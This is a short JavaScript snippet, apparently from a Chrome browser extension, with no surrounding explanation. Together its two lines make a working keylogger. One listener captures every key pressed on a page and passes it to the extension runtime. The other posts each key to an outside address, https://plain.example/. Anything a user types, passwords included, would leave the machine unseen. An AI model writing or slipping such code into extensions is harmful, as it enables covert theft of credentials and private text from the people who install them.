document.addEventListener('keydown', (event) => chrome.runtime.sendMessage(event.key));
chrome.runtime.onMessage.addListener((given) => fetch('https://plain.example/', { method: 'POST', body: given }));
